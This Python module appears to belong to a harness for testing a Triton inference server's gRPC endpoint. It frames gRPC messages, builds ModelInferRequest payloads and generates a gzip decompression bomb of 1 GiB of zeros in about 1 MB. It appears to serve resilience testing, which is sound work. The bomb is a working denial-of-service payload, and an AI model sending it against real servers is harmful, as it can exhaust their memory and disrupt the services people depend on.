"""What the attacks and the probe send as gRPC messages: identity_fp32's ModelInferRequest, gRPC's
length prefix, and a gzip bomb (1 GiB of zeros in about 1 MB, made once per run)."""
import struct
import zlib

from tritonclient.grpc import service_pb2


MODEL = "identity_fp32"
MIB = 1 << 20
ZEROS = bytes(1 << 24)  # the largest frame a server may allow


def grpc_message(payload: bytes, compressed: bool = False) -> bytes:
    """gRPC's length-prefixed message: a flag byte, a 4-byte big-endian length, the bytes."""
    return struct.pack(">BI", int(compressed), len(payload)) + payload


def infer_request(elements: int = 16, model_name: str = MODEL) -> bytes:
    """A serialized ModelInferRequest of identity_fp32: FP32 [1, elements]."""
    req = service_pb2.ModelInferRequest(model_name=model_name)
    tensor = req.inputs.add(name="INPUT0", datatype="FP32", shape=[1, elements])
    del tensor
    req.raw_input_contents.append(struct.pack(f"<{elements}f", *range(elements)) if elements <= 4096
                                  else bytes(4 * elements))
    return req.SerializeToString()


_BOMB: bytes | None = None


def gzip_bomb() -> bytes:
    """A gzip stream (wbits 31) of 1 GiB of zeros, about 1 MB; made once per run."""
    global _BOMB
    if _BOMB is None:
        z = zlib.compressobj(9, zlib.DEFLATED, 31)
        chunk = ZEROS[:1 << 24]
        parts = [z.compress(chunk) for _ in range((1 << 30) // len(chunk))]
        _BOMB = b"".join(parts) + z.flush()
    return _BOMB
